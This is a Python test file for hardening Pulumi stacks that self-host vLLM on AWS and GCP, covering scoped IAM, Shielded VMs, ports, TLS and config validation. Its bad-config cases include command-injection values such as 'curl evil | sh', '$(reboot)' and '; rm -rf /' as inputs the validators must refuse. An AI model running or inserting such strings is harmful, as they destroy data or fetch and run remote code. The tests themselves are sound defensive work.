"""Stack hardening under Pulumi mocks: scoped names and IAM, ports, the GCP network and Shielded VM, TLS,
and every bad config refused with one line before anything is declared."""

from __future__ import annotations

import base64
import json
import re

import pytest
from stack_mocks import plain, refused, stack

from costing.errors import UserError
from selfhost.stack import aws_config, gcp_config
from selfhost.stack.boot_script import exec_start_argv
from selfhost.stack.checks import check_port, gcp_name

COMMON = {
    "model": "llama-3.1-8b",
    "requestsPerDay": "3000",
    "inputTokens": "1000",
    "outputTokens": "250",
    "apiKey": "sk-test-key-0123456789",
    "hfToken": "hf_test_token",
}
AWS = {
    **COMMON,
    "instanceType": "g5.xlarge",
    "pricing": "spot",
    "allowedCidrs": ["203.0.113.0/24"],
    "allowPlainHttp": True,
}
GCP = {**AWS, "instanceType": None, "machineType": "g2-standard-8"}
LT = "aws:ec2/launchTemplate:LaunchTemplate"
GCP_NAME = re.compile(r"[a-z]([-a-z0-9]{0,61}[a-z0-9])?")
SA_ID = re.compile(r"[a-z]([-a-z0-9]{4,28}[a-z0-9])")


def aws_user_data(mocks) -> str:
    return base64.b64decode(plain(mocks.one(LT)["userData"])).decode()


def test_aws_iam_conditions_and_tags_are_scoped_by_project_and_stack():
    seen = {}
    for stack_name in ("dev", "prod"):
        mocks, out = stack("aws", AWS, stack_name=stack_name)
        scope = f"selfhost-aws/{stack_name}/selfhost-aws"
        statements = json.loads(mocks.one("aws:iam/rolePolicy:RolePolicy")["policy"])["Statement"]
        conditions = [s["Condition"]["StringEquals"] for s in statements if "Condition" in s]
        # each condition names the stack's scope: its tag, or its own CloudWatch namespace (selfhost/vLLM/<scope>)
        assert conditions and all(list(c.values()) in ([scope], [f"selfhost/vLLM/{scope}"]) for c in conditions)
        # the resources the conditions match carry that exact tag value
        lb_tags = mocks.one("aws:lb/loadBalancer:LoadBalancer")["tags"]
        group_tags = {t["key"]: t["value"] for t in mocks.one("aws:autoscaling/group:Group")["tags"]}
        assert lb_tags[aws_config.STACK_TAG] == group_tags[aws_config.STACK_TAG] == scope
        prefixes = {s["namePrefix"] for s in mocks.of_type("aws:secretsmanager/secret:Secret")}
        assert all(f"/{stack_name}/" in prefix for prefix in prefixes)
        assert out["stackScope"] == scope
        seen[stack_name] = conditions
    assert seen["dev"] != seen["prod"]


def test_gcp_has_its_own_network_and_shielded_vms_with_valid_unique_names():
    outs = {}
    for stack_name in ("dev", "prod"):
        mocks, _ = stack("gcp", GCP, stack_name=stack_name)
        net = mocks.one("gcp:compute/network:Network")
        subnet = mocks.one("gcp:compute/subnetwork:Subnetwork")
        assert net["autoCreateSubnetworks"] is False
        assert subnet["ipCidrRange"] == gcp_config.SUBNET_CIDR and subnet["network"] == "selfhost-gcp-net-id"
        for rule in mocks.of_type("gcp:compute/firewall:Firewall"):
            assert rule["network"] == f"projects/p/global/networks/{net['name']}"
            assert "default" not in rule["network"]
        template = mocks.of_type("gcp:compute/instanceTemplate:InstanceTemplate")[0]
        assert template["networkInterfaces"][0]["subnetwork"] == "selfhost-gcp-subnet-id"
        assert template["shieldedInstanceConfig"] == {
            "enableSecureBoot": True,
            "enableVtpm": True,
            "enableIntegrityMonitoring": True,
        }
        names = [net["name"], subnet["name"], *(r["name"] for r in mocks.of_type("gcp:compute/firewall:Firewall"))]
        names += [g["name"] for g in mocks.of_type("gcp:compute/regionInstanceGroupManager:RegionInstanceGroupManager")]
        assert all(GCP_NAME.fullmatch(n) for n in names), names
        account = mocks.one("gcp:serviceaccount/account:Account")["accountId"]
        assert SA_ID.fullmatch(account)
        secrets = {s["secretId"] for s in mocks.of_type("gcp:secretmanager/secret:Secret")}
        outs[stack_name] = {account, net["name"], *secrets}
    assert not outs["dev"] & outs["prod"]  # two stacks in one project never collide


def test_gcp_standard_vms_are_shielded_on_the_stack_subnet():
    mocks, _ = stack("gcp", {**GCP, "pricing": "on-demand"})
    template = mocks.one("gcp:compute/instanceTemplate:InstanceTemplate")
    assert template["shieldedInstanceConfig"]["enableSecureBoot"] is True
    assert template["networkInterfaces"][0]["subnetwork"] == "selfhost-gcp-subnet-id"


@pytest.mark.parametrize("name", ["1st-team", "9", "Ünïcode team!", "a" * 80, "x"])
def test_gcp_names_from_any_spec_name_are_valid(name):
    sa = gcp_name(name, f"selfhost-gcp/dev/{name}", max_len=30, min_len=6)
    assert SA_ID.fullmatch(sa), sa
    assert GCP_NAME.fullmatch(gcp_name(name, "scope", max_len=40))


def test_a_spec_name_starting_with_a_digit_deploys():
    mocks, _ = stack("gcp", {**GCP, "name": "1st-team"})
    assert SA_ID.fullmatch(mocks.one("gcp:serviceaccount/account:Account")["accountId"])


@pytest.mark.parametrize(
    "port, tls, ok",
    [
        (8000, False, True),
        (443, False, True),
        (80, False, True),
        (22, False, False),
        (25, False, False),
        (1023, False, False),
        (443, True, False),
        (80, True, False),
        (8443, True, True),
    ],
)
def test_serving_port_rules(port, tls, ok):
    if ok:
        assert check_port(port, tls_proxy=tls) == port
    else:
        with pytest.raises(UserError):
            check_port(port, tls_proxy=tls)


@pytest.mark.parametrize(
    "cloud, change, words",
    [
        ("aws", {"port": "22"}, "port 22 is used by SSH"),
        ("gcp", {"port": "22"}, "port 22 is used by SSH"),
        ("aws", {"port": "111"}, "privileged port"),
        ("aws", {"allowedCidrs": '["203.0.113.0/24"'}, "allowedCidrs is not a valid list"),
        ("gcp", {"allowedCidrs": "[1, 2"}, "allowedCidrs is not a valid list"),
        ("aws", {"apiKey": None, "apiKeySecretArn": "arn:aws:ssm:us-east-1:123456789012:vllm-key"}, ":parameter/"),
        ("aws", {"hfTokenSecretArn": "arn:aws:secretsmanager:us-east-1:1:secret:x"}, "not a Secrets Manager"),
        ("gcp", {"apiKeySecret": "projects/p/secrets/a b"}, "not a Secret Manager secret"),
        ("aws", {"storageGb": "5"}, "storageGb 5 is smaller than the"),
        ("gcp", {"storageGb": "5"}, "storageGb 5 is smaller than the"),
        ("aws", {"modelRepo": "meta-llama/x\nEOF\ncurl evil | sh"}, "modelRepo"),
        ("aws", {"modelRepo": "$(reboot)"}, "modelRepo"),
        ("gcp", {"servedModelName": "a`id`"}, "servedModelName"),
        ("aws", {"image": "vllm/vllm-openai:v1; rm -rf /"}, "not a container image"),
        ("aws", {"region": "us-east-1'; id; '"}, "region"),
        ("aws", {"allowPlainHttp": None}, "plain HTTP"),
        ("gcp", {"allowPlainHttp": "false"}, "plain HTTP"),
        ("gcp", {"domain": "api.example.com"}, "ACME certificate needs port 443"),
        ("aws", {"domain": "not a domain", "allowedCidrs": ["0.0.0.0/0"]}, "not a DNS name"),
        ("gcp", {"subnetCidr": "8.8.8.0/24"}, "private IPv4"),
    ],
)
def test_bad_config_is_one_line_and_nothing_declared(cloud, change, words):
    base = AWS if cloud == "aws" else GCP
    config = {k: v for k, v in {**base, **change}.items() if v is not None}
    mocks, err = refused(cloud, config)
    assert isinstance(err, UserError) and words in str(err), str(err)
    assert "\n" not in err.line()
    assert mocks.resources == [] and mocks.calls == []


def test_aws_domain_is_https_on_the_load_balancer_with_a_dns_validated_certificate():
    """ACM validates by a DNS record, so allowedCidrs may stay narrow; no proxy runs on the instances."""
    config = {k: v for k, v in {**AWS, "domain": "API.Example.com", "allowPlainHttp": None}.items() if v is not None}
    mocks, out = stack("aws", config)
    cert = mocks.one("aws:acm/certificate:Certificate")
    assert cert["domainName"] == "api.example.com" and cert["validationMethod"] == "DNS"
    assert mocks.one("aws:acm/certificateValidation:CertificateValidation")["certificateArn"].endswith(
        "certificate/selfhost-aws-cert"
    )
    listener = mocks.one("aws:lb/listener:Listener")
    assert (listener["port"], listener["protocol"]) == (443, "HTTPS")
    assert listener["sslPolicy"].startswith("ELBSecurityPolicy-TLS13")
    assert listener["certificateArn"].endswith("certificate/selfhost-aws-cert")
    lb_sg = mocks.of_type("aws:ec2/securityGroup:SecurityGroup")[0]
    assert [(r["fromPort"], r["cidrBlocks"]) for r in lb_sg["ingress"]] == [(443, ["203.0.113.0/24"])]
    script = aws_user_data(mocks)
    assert "caddy" not in script.lower()  # TLS ends at the load balancer
    argv = exec_start_argv(script)
    assert (
        argv[argv.index("-p") + 1] == "8000:8000"
    )  # the load balancer reaches vLLM; its security group admits only it
    assert out["endpointUrl"] == "https://api.example.com" and out["transport"].startswith("https")
    assert out["dnsRecord"].startswith("api.example.com CNAME ")
    assert out["certificateValidation"] == ["_x1.api.example.com. CNAME _x2.acm-validations.aws."]


@pytest.mark.parametrize("pricing", ["on-demand", "spot"])
def test_gcp_domain_is_https_on_the_load_balancer_with_a_google_managed_certificate(pricing):
    config = {**GCP, "pricing": pricing, "domain": "API.Example.com", "allowedCidrs": ["0.0.0.0/0"]}
    mocks, out = stack("gcp", {k: v for k, v in config.items() if v is not None and k != "allowPlainHttp"})
    cert = mocks.one("gcp:compute/managedSslCertificate:ManagedSslCertificate")
    assert cert["managed"]["domains"] == ["api.example.com"]
    proxy = mocks.one("gcp:compute/targetHttpsProxy:TargetHttpsProxy")
    assert proxy["sslCertificates"] == ["selfhost-gcp-cert-id"]
    assert mocks.one("gcp:compute/globalForwardingRule:GlobalForwardingRule")["portRange"] == "443"
    assert mocks.of_type("gcp:compute/targetHttpProxy:TargetHttpProxy") == []
    assert mocks.of_type("gcp:compute/securityPolicy:SecurityPolicy") == []  # open to all: the key guards it
    # vLLM's port from Google's front ends and checkers only; no proxy on the VMs
    [rule] = mocks.of_type("gcp:compute/firewall:Firewall")
    assert rule["allows"][0]["ports"] == ["8000", "8001"]
    assert sorted(rule["sourceRanges"]) == sorted(gcp_config.HEALTH_CHECK_RANGES)
    for template in mocks.of_type("gcp:compute/instanceTemplate:InstanceTemplate"):
        script = plain(template["metadata"])["startup-script"]
        assert "caddy" not in script.lower()  # TLS ends at the load balancer
        argv = exec_start_argv(script)
        assert argv[argv.index("-p") + 1] == "8000:8000"
    assert out["endpointUrl"] == "https://api.example.com" and out["transport"].startswith("https")
    assert out["dnsRecord"].startswith("api.example.com A ")


def test_plain_http_is_said_in_the_outputs():
    _, out = stack("aws", AWS)
    assert out["transport"] == "http (allowPlainHttp)" and out["endpointUrl"].startswith("http://")


def test_no_ssh_and_nothing_but_the_api_port_is_opened():
    mocks, _ = stack("gcp", GCP)
    for rule in mocks.of_type("gcp:compute/firewall:Firewall"):
        assert all("22" not in a["ports"] for a in rule["allows"])
    mocks, _ = stack("aws", AWS)
    ingress = [r for g in mocks.of_type("aws:ec2/securityGroup:SecurityGroup") for r in g["ingress"]]
    assert [(r["fromPort"], r["toPort"]) for r in ingress] == [(8000, 8000)] * 2


def test_aws_group_and_template_names_carry_the_stack():
    for stack_name in ("dev", "prod"):
        mocks, _ = stack("aws", AWS, stack_name=stack_name)
        for typ in (LT, "aws:autoscaling/group:Group"):
            assert mocks.one(typ)["namePrefix"] == f"selfhost-aws-{stack_name}-selfhost-aws-"


@pytest.mark.parametrize("region", ["us-east-1", "ap-southeast-2", "us-gov-west-1", "us-central1", "europe-west4"])
def test_real_region_names_pass(region):
    from selfhost.stack.checks import check_region

    assert check_region(region) == region
